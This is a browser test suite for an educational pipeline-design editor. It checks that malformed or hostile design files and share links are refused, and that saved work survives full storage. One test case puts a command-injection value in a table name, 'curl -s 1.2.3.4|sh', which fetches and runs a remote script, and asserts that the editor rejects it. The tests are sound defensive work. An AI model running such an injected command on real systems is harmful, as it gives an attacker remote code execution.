// Hostile input through the real page: files and links carrying what the
// editor could never make, a link over saved work, full storage. Each
// case ends with the page still working and nothing the student made lost.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { launch, openPage, axe, cspViolations } from './browser.mjs';

let env;
before(async () => { env = await launch(); });
after(async () => { await env?.close(); });

const nodes = (page) => page.locator('svg.board g.node');

/// A scenario 4 design file: source -> backfill -> transform -> write -> report.
function backfillFile({ table = 'silver.orders', first = '2026-08-03', last = '2026-08-13', inFlight = 3, nextId = 5 } = {}) {
  const node = (id, x, config, fixed = false) => ({ id, x, y: 120, config, fixed });
  return {
    format: 'partition-lab-design',
    version: 1,
    scenario: 4,
    graph: {
      nodes: {
        0: node(0, 40, { Source: { table: 'bronze.orders' } }, true),
        1: node(1, 280, { Backfill: { first, last, max_concurrency: inFlight, shape: 'PerDate', markers: 'AfterPartition', yield_to_scheduled: false } }),
        2: node(2, 520, { Transform: { logic: 'Fixed', reads: 'Bronze', partition_key: 'EventDate' } }),
        3: node(3, 760, { Write: { table, mode: 'OverwritePartition' } }),
        4: node(4, 1000, { Report: { restate: 'AfterAllGold' } }),
      },
      edges: [{ from: 0, to: 1 }, { from: 1, to: 2 }, { from: 2, to: 3 }, { from: 3, to: 4 }],
      next_id: nextId,
    },
  };
}

const link = (file) => Buffer.from(JSON.stringify(file)).toString('base64url');

async function importFile(page, name, file) {
  const body = typeof file === 'string' ? file : JSON.stringify(file);
  await page.getByLabel(/Import a design file/).setInputFiles({ name, mimeType: 'application/json', buffer: Buffer.from(body) });
}

async function refused(page, pattern) {
  const alert = page.locator('.notice.error');
  await alert.waitFor();
  const text = await alert.innerText();
  assert.match(text, pattern);
  await alert.getByRole('button', { name: 'Dismiss' }).click();
  return text;
}

test('files and links carrying what the inspector refuses are refused, with the reason', async () => {
  const { page, errors, context } = await openPage(env, '/scenarios/4');
  await page.getByText('Save, share, import').click();
  await importFile(page, 'good.json', backfillFile());
  await page.locator('.notice').filter({ hasText: 'Imported good.json' }).waitFor();
  assert.equal(await nodes(page).count(), 5);
  // An imported design is fitted into view: no node runs off the board.
  const board = await page.locator('svg.board').boundingBox();
  for (const box of await nodes(page).evaluateAll((els) => els.map((e) => e.getBoundingClientRect().toJSON()))) {
    assert.ok(box.left >= board.x - 1 && box.right <= board.x + board.width + 1, `node at ${box.left}-${box.right} outside ${board.x}-${board.x + board.width}`);
  }

  const cases = [
    ['injection.json', backfillFile({ table: 'silver.x;curl -s 1.2.3.4|sh;#' }), /letters, digits/],
    ['lookback.json', (() => {
      const f = backfillFile();
      f.graph.nodes[5] = { id: 5, x: 40, y: 400, fixed: false, config: { State: { state: { PartitionList: { lookback: 4294967295, over: 'EventDate' } }, commit: 'StateAfterWrite' } } };
      f.graph.next_id = 6;
      return f;
    })(), /Lookback: a whole number from 0 to 60/],
    ['lateness.json', (() => {
      const f = backfillFile();
      f.graph.nodes[5] = { id: 5, x: 40, y: 400, fixed: false, config: { Finaliser: { allowed_lateness_days: 4294967295, after_final: 'Adjustments' } } };
      f.graph.next_id = 6;
      return f;
    })(), /Allowed lateness: a whole number from 0 to 60/],
    ['concurrency.json', backfillFile({ inFlight: 0 }), /Dates in flight/],
    ['year.json', backfillFile({ first: '0206-08-03' }), /First date: a date from 2000-01-01/],
    ['next-id.json', backfillFile({ nextId: 4294967295 }), /ids stop at/],
    ['crowd.json', (() => {
      const f = backfillFile({ nextId: 300 });
      for (let id = 5; id < 206; id += 1) {
        f.graph.nodes[id] = { id, x: 40, y: 400, fixed: false, config: { Checks: { unique_key: true, reconcile: true } } };
      }
      return f;
    })(), /at most 200/],
  ];
  for (const [name, file, reason] of cases) {
    await importFile(page, name, file);
    const text = await refused(page, reason);
    assert.match(text, /Your design is unchanged/, name);
    assert.equal(await nodes(page).count(), 5, `${name} left the design alone`);
  }
  // The same values through a share link, pasted into the open page.
  for (const [name, file, reason] of cases) {
    await page.evaluate((v) => { location.hash = `design=${v}`; }, link(file));
    const text = await refused(page, reason);
    assert.match(text, /Your own design is unchanged/, name);
    assert.equal(await nodes(page).count(), 5);
  }
  // A 10 MB link is refused before it is decoded, and the page carries on.
  const started = Date.now();
  await page.evaluate(() => { location.hash = `design=${'A'.repeat(10 * 1024 * 1024)}`; });
  await refused(page, /at most 256 KB/);
  assert.ok(Date.now() - started < 5000, 'refused quickly');
  assert.equal(await nodes(page).count(), 5);

  // Nothing hostile reached the exported code.
  await page.getByText('Export as code').click();
  assert.doesNotMatch(await page.locator('.designer').innerText(), /curl/);
  assert.deepEqual(await cspViolations(page), []);
  assert.deepEqual(errors, []);
  await context.close();
});

test('the editor refuses the 201st node with a message, and the full design still saves and reloads', async () => {
  const { page, errors, context } = await openPage(env, '/scenarios/3');
  const full = backfillFile({ nextId: 200 });
  full.scenario = 3;
  full.graph.nodes[0].config.Source.table = 'bronze.purchases';
  for (let id = 5; id < 200; id += 1) {
    full.graph.nodes[id] = { id, x: 40 + (id % 20) * 10, y: 400 + id * 5, fixed: false, config: { Checks: { unique_key: true, reconcile: false } } };
  }
  await page.getByText('Save, share, import').click();
  await importFile(page, 'full.json', full);
  await page.locator('.notice').filter({ hasText: 'Imported full.json' }).waitFor();
  assert.equal(await nodes(page).count(), 200);
  // Far too large for a link any host keeps whole: no link is made, and
  // the fold says what to do instead.
  assert.equal(await page.locator('#share-link').count(), 0);
  assert.match(await page.locator('[data-share="too-long"]').innerText(), /^This design is too large to share as a link \([\d,]+ characters; many hosts and chat apps cut links over 8,192\): download it as a file instead\.$/);
  await page.locator('.palette-item[data-kind="report"]').click();
  await refused(page, /at most 200 nodes/);
  assert.equal(await nodes(page).count(), 200);
  await page.reload();
  await page.waitForSelector('svg.board g.node');
  assert.equal(await nodes(page).count(), 200, 'the fullest design the editor allows comes back');
  assert.equal(await page.locator('.notice.error').count(), 0, 'and is not reported damaged');
  assert.deepEqual(errors, []);
  await context.close();
});

test('a link over saved work asks first, and the work it replaced comes back after a reload', async () => {
  const { page, errors, context } = await openPage(env, '/scenarios/4');
  await page.getByText('Save, share, import').click();
  const mine = backfillFile({ inFlight: 2 });
  await importFile(page, 'mine.json', mine);
  await page.locator('.notice').filter({ hasText: 'Imported mine.json' }).waitFor();
  const theirs = backfillFile({ inFlight: 7 });
  delete theirs.graph.nodes[4];
  theirs.graph.edges = theirs.graph.edges.filter((e) => e.to !== 4);

  await page.goto('about:blank');
  await page.goto(`${env.url}/scenarios/4#design=${link(theirs)}`);
  const prompt = page.locator('.link-prompt');
  await prompt.waitFor();
  assert.match(await prompt.innerText(), /replaces the design you have here/);
  assert.equal(await nodes(page).count(), 5, 'nothing replaced before the student says so');
  // Keep mine: nothing changes, even after a reload.
  await prompt.getByRole('button', { name: 'Keep my design' }).click();
  await page.reload();
  await page.waitForSelector('svg.board g.node');
  assert.equal(await nodes(page).count(), 5);

  // Open theirs: mine becomes a backup that survives a reload.
  await page.goto(`${env.url}/scenarios/4#design=${link(theirs)}`);
  await page.locator('.link-prompt').getByRole('button', { name: "Open the link's design" }).click();
  await page.waitForFunction(() => document.querySelectorAll('svg.board g.node').length === 4);
  await page.reload();
  await page.waitForSelector('svg.board g.node');
  assert.equal(await nodes(page).count(), 4, "the link's design is the saved one now");
  const backup = page.getByRole('region', { name: 'Design kept from before it was replaced' });
  await backup.waitFor();
  assert.equal(await axe(page).then((v) => v.length), 0);
  await backup.getByRole('button', { name: 'Bring back my earlier design' }).click();
  await page.waitForFunction(() => document.querySelectorAll('svg.board g.node').length === 5);
  await page.reload();
  await page.waitForSelector('svg.board g.node');
  assert.equal(await nodes(page).count(), 5, 'my own design is back, and saved');
  const saved = await page.evaluate(() => JSON.parse(localStorage.getItem('partition-lab/design/4')));
  assert.equal(saved.graph.nodes[1].config.Backfill.max_concurrency, 2);
  // The link's design is the backup now: nothing was lost either way.
  const kept = await page.evaluate(() => JSON.parse(localStorage.getItem('partition-lab/design/4/before-link')));
  assert.equal(kept.graph.nodes[1].config.Backfill.max_concurrency, 7);
  assert.deepEqual(errors, []);
  await context.close();
});

/// Fills the origin's localStorage until the browser refuses more.
async function fillStorage(page) {
  return page.evaluate(() => {
    const chunk = 'x'.repeat(256 * 1024);
    const run = `filler/${Math.random()}`;
    try {
      for (let i = 0; i < 400; i += 1) localStorage.setItem(`${run}/${i}`, chunk);
    } catch (e) {
      // Top up with ever smaller pieces so not even a few bytes fit.
      for (const size of [4096, 512, 16, 1]) {
        for (let j = 0; j < 4000; j += 1) {
          try { localStorage.setItem(`${run}/${size}/${j}`, 'y'.repeat(size)); } catch { break; }
        }
      }
      return e.name;
    }
    return 'never full';
  });
}

test('with storage full the page says so, and nothing saved before is lost', async () => {
  const { page, errors, context } = await openPage(env, '/scenarios/4');
  await page.getByText('Save, share, import').click();
  await importFile(page, 'mine.json', backfillFile());
  await page.locator('.notice').filter({ hasText: 'Imported mine.json' }).waitFor();
  const before = await page.evaluate(() => localStorage.getItem('partition-lab/design/4'));
  assert.equal(await fillStorage(page), 'QuotaExceededError');
  await page.locator('.palette-item[data-kind="checks"]').click();
  await refused(page, /storage for the lab is full/);
  assert.equal(await nodes(page).count(), 6, 'the edit itself still happens on the page');
  assert.equal(await page.evaluate(() => localStorage.getItem('partition-lab/design/4')), before, 'the last good save is intact');

  // A damaged save that cannot be moved aside is held in place, not overwritten.
  await page.evaluate(() => {
    const some = Object.keys(localStorage).filter((k) => k.startsWith('filler/')).slice(0, 3);
    some.forEach((k) => localStorage.removeItem(k));
    localStorage.setItem('partition-lab/design/4', '{"format":"partition-lab-design","version":1,"graph"');
  });
  await fillStorage(page);
  await page.reload();
  const alert = page.locator('.notice.error');
  await alert.waitFor();
  assert.match(await alert.innerText(), /could not be set aside/);
  assert.doesNotMatch(await alert.innerText(), /kept below/);
  await page.locator('.palette-item[data-kind="report"]').click();
  assert.equal(
    await page.evaluate(() => localStorage.getItem('partition-lab/design/4')),
    '{"format":"partition-lab-design","version":1,"graph"',
    'autosave did not write over the damaged save',
  );
  await page.getByRole('link', { name: 'Download the damaged copy' }).first().waitFor();
  // Make room, then say new work may replace it.
  await page.evaluate(() => Object.keys(localStorage).filter((k) => k.startsWith('filler/')).forEach((k) => localStorage.removeItem(k)));
  await page.getByRole('button', { name: 'Save my new work over it' }).click();
  const saved = await page.evaluate(() => JSON.parse(localStorage.getItem('partition-lab/design/4')));
  assert.equal(Object.keys(saved.graph.nodes).length, 2);
  assert.deepEqual(errors.filter((e) => !/QuotaExceeded/.test(e)), []);
  await context.close();
});

test('the largest backfill the inspector allows: capped evidence, a windowed replay, a working stepper', async () => {
  const { page, errors, context } = await openPage(env, '/scenarios/4');
  await page.getByText('Save, share, import').click();
  await importFile(page, 'decade.json', backfillFile({ first: '2016-08-06', inFlight: 64 }));
  await page.locator('.notice').filter({ hasText: 'Imported decade.json' }).waitFor();
  await page.getByRole('button', { name: 'Check my design' }).click();
  await page.locator('[data-rule="R2"]').waitFor({ timeout: 60000 });
  const lines = page.locator('[data-rule="R2"] .evidence li');
  assert.ok((await lines.count()) <= 12, `${await lines.count()} evidence lines`);
  assert.match(await lines.last().innerText(), /^And \d{1,3}(,\d{3})* more lines of evidence like these\.$/);
  await page.locator('[data-rule="R5"]').getByRole('button', { name: 'Show me the smallest case' }).click();
  const box = page.locator('[data-smallest="R5"]');
  await box.waitFor({ timeout: 60000 });
  const total = Number((await box.locator('.run-count').innerText()).match(/of (\d+)/)[1]);
  assert.ok(total > 1000, `${total} steps`);
  assert.equal(await box.locator('.replay li').count(), 40, 'one page of moments is drawn');
  const next = box.getByRole('button', { name: 'Next step' });
  for (let i = 0; i < 41; i += 1) await next.click();
  assert.match(await box.locator('.run-count').innerText(), /Step 42 of/);
  assert.match(await box.innerText(), /Moments 41 to 80 of/);
  assert.equal(await box.locator('.replay li[aria-current="step"]').count(), 1);
  assert.equal(await box.locator('.replay').getAttribute('start'), '41');
  // With the smallest case open, the headings still step down one level at a time.
  const violations = await axe(page);
  assert.deepEqual(violations, [], JSON.stringify(violations, null, 2));
  assert.deepEqual(errors, []);
  await context.close();
});
